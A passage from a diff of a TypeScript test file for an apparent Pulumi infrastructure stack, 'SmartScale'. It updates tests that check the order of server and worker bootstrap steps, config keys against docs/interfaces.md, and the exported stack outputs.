             assert.ok(order.every((i) => i > 0), `missing step: ${order}`);
             assert.deepStrictEqual([...order].sort((a, b) => a - b), order, "steps out of order");
             assert.match(workerUserData, /ExecStart=\/usr\/local\/bin\/smartscale-agent --config \/etc\/smartscale\/agent.yaml run/);
         });
 
-        it("server: token file, verified manifests, k3s, Grafana secret, controller unit", () => {
-            for (const s of [
-                "fetch_verified \"$ARTIFACT_BUCKET\" 'manifests/smartscale.yaml'",
+        it("server: tokens, sync, k3s, agent token, Grafana secret, controller unit, sync timer", () => {
+            const order = [
+                'saws secret-get --id "$SERVER_TOKEN_SECRET_ID"',
+                "saws sync --release-param",
                 "install_k3s server",
+                'saws secret-put --id "$AGENT_TOKEN_SECRET_ID"',
                 "create secret generic grafana-admin",
                 "ExecStart=/usr/local/bin/smartscale-controller --config /etc/smartscale/controller.yaml",
                 "systemctl enable --now smartscale-controller.service",
-            ]) {
-                assert.ok(serverUserData.includes(s), `missing: ${s}`);
-            }
+                "systemctl enable --now smartscale-sync.timer",
+            ].map((s) => serverUserData.indexOf(s));
+            assert.ok(order.every((i) => i > 0), `missing step: ${order}`);
+            assert.deepStrictEqual([...order].sort((a, b) => a - b), order, "steps out of order");
         });
 
         it("writes agent and controller configs with only the keys of docs/interfaces.md", () => {
-            const block = (ud: string, file: string) => {
-                const m = new RegExp(`cat >"?[^\\n]*${file}"? <<'SMARTSCALE_EOF'\\n([\\s\\S]*?)\\nSMARTSCALE_EOF`).exec(ud);
-                assert.ok(m, `no heredoc for ${file}`);
-                return m[1];
-            };
-            const agentKeys = yamlKeyPaths(block(workerUserData, "agent.yaml"));
-            const controllerKeys = yamlKeyPaths(block(serverUserData, "controller.yaml"));
+            const m = /cat >"?[^\n]*agent.yaml"? <<'SMARTSCALE_EOF'\n([\s\S]*?)\nSMARTSCALE_EOF/.exec(workerUserData);
+            assert.ok(m, "no heredoc for agent.yaml");
+            const agentKeys = yamlKeyPaths(m[1]);
+            const controllerKeys = yamlKeyPaths(param(recorded, "/smartscale/prod/controller/config")!.inputs.value);
             const docAgent = documentedAgentKeys();
             const docController = documentedControllerKeys();
             for (const k of agentKeys) assert.ok(docAgent.has(k), `agent key ${k} is not in docs/interfaces.md`);
             for (const k of controllerKeys) assert.ok(docController.has(k), `controller key ${k} is not in docs/interfaces.md`);
             for (const k of ["ssm_path", "token_secret_id"]) assert.ok(agentKeys.has(k), `required agent key ${k}`);
             for (const k of ["cluster_id", "prometheus.url", "state.table", "node_groups.asg_name"]) assert.ok(controllerKeys.has(k), `required controller key ${k}`);
-            assert.match(block(serverUserData, "controller.yaml"), /\n {2}table: smartscale-prod-state\n/);
-            assert.match(block(serverUserData, "controller.yaml"), /\n {2}- asg_name: smartscale-prod-workers\n/);
+            assert.match(m[1], /\njoin_timeout: 10m\n/);
         });
     });
 
     describe("outputs", () => {
-        it("exposes serverPublicIp, grafanaUrl, asgName and tableName", () => {
+        it("exposes the server's addresses, the Grafana tunnel, asgName and tableName", () => {
             assert.strictEqual(outputs.serverPublicIp, MOCK_SERVER_PUBLIC_IP);
-            assert.strictEqual(outputs.grafanaUrl, `http://${MOCK_SERVER_PUBLIC_IP}:30300`);
+            assert.strictEqual(outputs.serverPrivateIp, "10.20.0.10");
             assert.strictEqual(outputs.asgName, "smartscale-prod-workers");
             assert.strictEqual(outputs.tableName, "smartscale-prod-state");
         });
@@ -443,7 +665,7 @@ describe("SmartScale stack under Pulumi mocks", function () {
             await prepare(baseConfig(bins), "index-check");
             const mod = await import("../index");
             const keys = Object.keys(mod).sort();
-            for (const k of ["serverPublicIp", "grafanaUrl", "asgName", "tableName"]) assert.ok(keys.includes(k), k);
+            for (const k of ["serverPublicIp", "serverPrivateIp", "grafanaTunnel", "asgName", "tableName"]) assert.ok(keys.includes(k), k);
             assert.strictEqual(await valueOf((mod as any).asgName), "smartscale-index-check-workers");
         });
     });
